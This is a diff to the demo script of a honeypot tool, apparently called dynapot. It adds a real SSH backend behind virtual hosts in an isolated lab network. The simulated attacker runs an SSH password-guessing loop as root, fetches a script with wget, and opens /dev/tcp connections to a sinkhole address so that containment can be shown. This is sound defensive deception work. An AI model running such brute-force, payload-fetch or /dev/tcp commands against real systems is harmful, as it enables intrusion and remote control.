@@ -7,7 +7,10 @@ them as honeyd.conf, then starts the engine (`dynapot run`) in the sensor namesp
 resumes that deployment with its sensor and keeps it in step. From the attacker namespace
 nmap -O looks at a few virtual hosts and a loop guesses SSH passwords; the engine
 correlates this into findings, and `dynapot report` shows who did what (also written as
-report.html). Then the lab is torn down. Each step is the CLI command an administrator
+report.html). A real high-interaction backend (its own namespace, a real sshd, routed only
+through the sensor) stands behind the Linux virtual hosts' SSH port: the attacker logs in on a
+virtual host, lands on the backend with its own address, and what the backend then tries to
+reach is sinkholed, then refused. Then the lab is torn down. Each step is the CLI command an administrator
 would type, printed before it runs.
 """
 
@@ -15,18 +18,23 @@ from __future__ import annotations
 
 import contextlib
 import json
+import re
 import shlex
 import shutil
 import subprocess
 import time
+from collections import Counter
 from pathlib import Path
 
 import click
 
 from dynapot.lab import Lab, lab_up
+from dynapot.lab.backend import BackendHost, high_interaction_backend
 from dynapot.processes import python_command, terminate
 
 DEMO_PORTS = "21,22,23,25,80,110,139,143,443,445,3306,3389,8080"
+BACKEND_OFFSET = 52  # the backend's address in the lab network
+SINKHOLE_TARGET = "198.19.0.80"  # nobody: what the backend tries to reach there is contained
 STEP_TIMEOUT = 900  # seconds; the lab scan takes well under a minute
 
 
@@ -57,7 +65,17 @@ def run_demo(out_dir: Path, *, db_url: str | None = None) -> None:
             netns=lab.attacker.netns,
         )
         _step([*dynapot, "hosts", "--db", db_url])
-        plan_args = ["--network", network, "--gateway", str(lab.gateway), "--db", db_url]
+        backend_ip = str(lab.network.network_address + BACKEND_OFFSET)  # kept for the backend, below
+        plan_args = [
+            "--network",
+            network,
+            "--gateway",
+            str(lab.gateway),
+            "--exclude",
+            backend_ip,
+            "--db",
+            db_url,
+        ]
         _step([*dynapot, "plan", *plan_args])
         config = out_dir / "honeyd.conf"
         _step([*dynapot, "honeyd-config", *plan_args, "--apply", "-o", str(config)])
@@ -67,7 +85,12 @@ def run_demo(out_dir: Path, *, db_url: str | None = None) -> None:
                 [*dynapot, "plan", *plan_args, "--json"], stdout=handle, timeout=STEP_TIMEOUT, check=True
             )
         _check_personalities(plan_json)
-        _deceive(lab, config, plan_json, out_dir, db_url)
+        click.secho("\nadding a real high-interaction backend (sshd) behind the sensor ...", bold=True)
+        with high_interaction_backend(lab, "hi1", BACKEND_OFFSET) as backend:
+            click.echo(
+                f"  {backend.host.ip} ({backend.host.netns}): account {backend.user} / {backend.password}"
+            )
+            _deceive(lab, config, plan_json, out_dir, db_url, backend)
     click.secho("\nlab torn down.", bold=True)
     click.echo(f"inventory: {db_url}\nplan:      {plan_json}\nhoneyd:    {config}")
     click.echo(f"report:    {out_dir / 'report.html'}\nengine:    {out_dir / 'engine.out'}")
@@ -92,7 +115,7 @@ def _show_targets(plan_json: Path, count: int = 4) -> list[dict]:
     return list(chosen.values())[:count]
 
 
-def _engine_settings(lab: Lab, out_dir: Path, db_url: str) -> Path:
+def _engine_settings(lab: Lab, out_dir: Path, db_url: str, backend: BackendHost, os_name: str) -> Path:
     state = out_dir / "engine"
     state.mkdir(exist_ok=True)
     settings = out_dir / "dynapot.toml"
@@ -116,6 +139,12 @@ replan_interval = 1
 
 [alerts]
 urls = []               # e.g. ["mailto://...", "json://hooks.example/dynapot"]
+
+[[backends]]            # a real machine behind the Linux virtual hosts' SSH port
+{"".join(f"{key} = {json.dumps(value)}{chr(10)}" for key, value in backend.settings(os_name).items())}
+[redirect]
+mode = "packet"         # the backend sees the attacker's own address
+outbound_per_hour = 2   # what the backend starts: two answered by the sinkhole, then refused
 """
     )
     return settings
@@ -134,11 +163,16 @@ def _wait_deployed(state: Path, count: int, daemon: subprocess.Popen, timeout: f
     raise click.ClickException("the sensor did not answer for the planned hosts in time")
 
 
-def _deceive(lab: Lab, config: Path, plan_json: Path, out_dir: Path, db_url: str) -> None:
+def _deceive(
+    lab: Lab, config: Path, plan_json: Path, out_dir: Path, db_url: str, backend: BackendHost
+) -> None:
     """Run the engine on the lab, attack a few honeypots, show the findings and the report."""
     targets = _show_targets(plan_json)
     planned = len(json.loads(plan_json.read_text())["virtual_hosts"])
-    settings = _engine_settings(lab, out_dir, db_url)
+    # The backend stands for the largest OS group (a real Linux box); the others stay emulated.
+    groups = Counter(h["os"] for h in json.loads(plan_json.read_text())["virtual_hosts"])
+    os_name = groups.most_common(1)[0][0] if groups else "Linux"
+    settings = _engine_settings(lab, out_dir, db_url, backend, os_name)
     dynapot = python_command("-m", "dynapot")
     click.secho(f"\n$ ip netns exec {lab.sensor.netns} dynapot run --config {settings}  &", bold=True)
     with (out_dir / "engine.out").open("w") as out:
@@ -151,7 +185,14 @@ def _deceive(lab: Lab, config: Path, plan_json: Path, out_dir: Path, db_url: str
         ports = sorted({s["port"] for h in targets for s in h["services"]} | {1})
         port_list = ",".join(str(p) for p in ports)
         _step(["nmap", "-n", "-O", "-p", port_list, *(h["ip"] for h in targets)], netns=lab.attacker.netns)
-        ssh = [h["ip"] for h in targets if any(s["port"] == 22 for s in h["services"])]
+        redirected = _redirected(out_dir / "engine" / "honeyd.conf", backend)
+        # The password guesses go to an emulated SSH (it records each); the intruder, to the backend.
+        with_ssh = [
+            h["ip"]
+            for h in json.loads(plan_json.read_text())["virtual_hosts"]
+            if any(s["port"] == 22 for s in h["services"])
+        ]
+        ssh = [ip for ip in with_ssh if ip not in redirected] or with_ssh
         if ssh and shutil.which("sshpass"):
             click.secho(f"\n$ for i in $(seq 12); do sshpass -p guess-$i ssh root@{ssh[0]}; done", bold=True)
             for attempt in range(12):
@@ -160,6 +201,7 @@ def _deceive(lab: Lab, config: Path, plan_json: Path, out_dir: Path, db_url: str
                     ["sshpass", "-p", f"guess-{attempt}", "ssh", *_SSH_OPTIONS, f"root@{ssh[0]}", "true"],
                     timeout=30,
                 )
+        _intrude(lab, redirected, backend)
         time.sleep(3)  # the engine correlates every second
         report = out_dir / "report.html"
         _step(
@@ -181,6 +223,44 @@ def _deceive(lab: Lab, config: Path, plan_json: Path, out_dir: Path, db_url: str
         )
     finally:
         terminate(daemon, 60)
+
+
+def _redirected(deployed: Path, backend: BackendHost) -> list[str]:
+    """The virtual hosts whose SSH port the engine's configuration redirects to the backend."""
+    try:
+        text = deployed.read_text()
+    except OSError:
+        return []
+    return re.findall(rf"^add (\S+) tcp port 22 proxy {re.escape(str(backend.host.ip))}:22$", text, re.M)
+
+
+def _intrude(lab: Lab, redirected: list[str], backend: BackendHost) -> None:
+    """Log in on a virtual host whose SSH port the engine redirected to the backend, as an intruder."""
+    if not redirected or not shutil.which("sshpass"):
+        click.echo("  (no virtual host's SSH port is redirected to the backend: skipped)")
+        return
+    target = redirected[0]
+    commands = (
+        'id; cat ~/backend; who; echo "the backend sees me as ${SSH_CLIENT%% *}"; '
+        f"wget -q -t 1 -T 3 -O- http://{SINKHOLE_TARGET}/x.sh || echo 'wget: no answer'; "
+        f"for i in 1 2; do (echo hi > /dev/tcp/{SINKHOLE_TARGET}/4444) 2>/dev/null "
+        "|| echo 'connect: refused'; done"
+    )
+    login = [
+        "sshpass",
+        "-p",
+        backend.password,
+        "ssh",
+        "-tt",
+        *_SSH_OPTIONS,
+        f"{backend.user}@{target}",
+        commands,
+    ]
+    click.secho(
+        f"\n$ sshpass -p {backend.password} ssh {backend.user}@{target} {shlex.quote(commands)}", bold=True
+    )
+    result = lab.exec(lab.attacker, login, timeout=60)
+    click.echo(result.stdout.replace("\r", "").rstrip() or result.stderr.rstrip())
 
 
 _SSH_OPTIONS = (
